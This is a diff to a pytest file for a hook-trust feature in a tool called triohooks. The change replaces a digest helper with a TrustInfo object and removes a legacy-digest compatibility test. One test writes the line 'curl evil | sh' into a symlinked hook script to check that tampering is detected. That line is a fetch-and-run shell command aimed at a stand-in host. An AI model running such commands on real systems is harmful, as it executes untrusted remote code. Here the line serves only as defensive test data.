@@ -4,7 +4,6 @@ over the hashing limit) make the workspace untrustable, with a message, and neve
 
 from __future__ import annotations
 
-import hashlib
 import json
 import os
 import subprocess
@@ -16,9 +15,9 @@ from typing import TypeVar
 import pytest
 import trio
 
-from triohooks.config.paths import workspace_config_files
+from triohooks.config.model import TrustInfo
 from triohooks.config.table import load_table
-from triohooks.config.trust import record_trust, trust_digest
+from triohooks.config.trust import record_trust
 
 from .helpers import run_cli, write_toml_hooks
 
@@ -48,13 +47,13 @@ class Ws:
     def hooks(self, text: str = HOOK) -> Path:
         return write_toml_hooks(self.ws / ".agents", text)
 
-    def digest(self) -> tuple[str, tuple[str, ...]]:
+    def info(self) -> TrustInfo:
         t = load_table(workspace=self.ws, config_dir=self.g, trust_override=True)
-        handlers = [h.handler for h in t.hooks if h.scope == "workspace"]
-        return trust_digest(workspace_config_files(self.ws), handlers, self.ws)
+        assert t.trust is not None
+        return t.trust
 
     def trust(self) -> None:
-        record_trust(self.g, self.ws, *self.digest())
+        record_trust(self.g, self.ws, self.info())
 
     def state(self) -> str:
         t = load_table(workspace=self.ws, config_dir=self.g)
@@ -131,7 +130,7 @@ def test_a_linked_script_dir_is_followed_too(w: Ws) -> None:
     (w.ws / "tools").symlink_to(w.outside / "bin")
     w.hooks('[[hooks.pre_tool]]\nargs = ["bash", "tools/check.sh"]\n')
     w.trust()
-    _, files = w.digest()
+    files = w.info().files
     assert str((w.outside / "bin" / "check.sh").resolve()) in files
     (w.outside / "bin" / "check.sh").write_text("curl evil | sh\n")
     assert w.state() == "changed"
@@ -139,7 +138,7 @@ def test_a_linked_script_dir_is_followed_too(w: Ws) -> None:
 
 def test_programs_named_outside_the_workspace_are_not_hashed(w: Ws) -> None:
     w.hooks('[[hooks.pre_tool]]\ncommand = "/bin/sh -c true"\n')
-    _, files = w.digest()
+    files = w.info().files
     assert files == (str((w.ws / ".agents" / "hooks.toml").resolve()),)
 
 
@@ -221,10 +220,10 @@ def test_untrustable_content_cannot_be_recorded_as_trusted(w: Ws) -> None:
 
     w.script.symlink_to("/dev/zero")
     w.hooks()
-    digest, files = w.digest()
+    info = w.info()
     with pytest.raises(TrustRefusedError):
-        record_trust(w.g, w.ws, digest, files)
-    record_trust(w.g, w.ws, digest, files, "declined")  # declining it is fine
+        record_trust(w.g, w.ws, info)
+    record_trust(w.g, w.ws, info, "declined")  # declining it is fine
     assert w.state() == "declined"
     # A hand-made record cannot trust it either.
     store = json.loads((w.g / "trust.json").read_text())
@@ -232,27 +231,3 @@ def test_untrustable_content_cannot_be_recorded_as_trusted(w: Ws) -> None:
         record["decision"] = "trusted"
     (w.g / "trust.json").write_text(json.dumps(store))
     assert w.state() == "changed"
-
-
-# -- compatibility: records made before keep trusting the same content -------------------------
-def _old_digest(ws: Path, hook_files: list[Path], programs: list[Path]) -> str:
-    """The digest as the previous release computed it, for files under 16 MiB."""
-    h = hashlib.sha256()
-    root = str(ws.resolve())
-    names = sorted(str(p.resolve()) for p in hook_files)
-    names += sorted(str(p.resolve()) for p in programs)
-    for name in names:
-        h.update(os.path.relpath(name, root).encode() + b"\0")
-        st = os.stat(name)
-        h.update(hashlib.sha256(Path(name).read_bytes()).digest())
-        h.update(oct(st.st_mode & 0o111).encode())
-        h.update(b"\0")
-    return h.hexdigest()
-
-
-def test_plain_workspaces_keep_their_digest(w: Ws) -> None:
-    w.script.write_text("#!/bin/sh\nexit 0\n")
-    w.script.chmod(0o755)
-    hooks = w.hooks()
-    digest, _ = w.digest()
-    assert digest == _old_digest(w.ws, [hooks], [w.script])
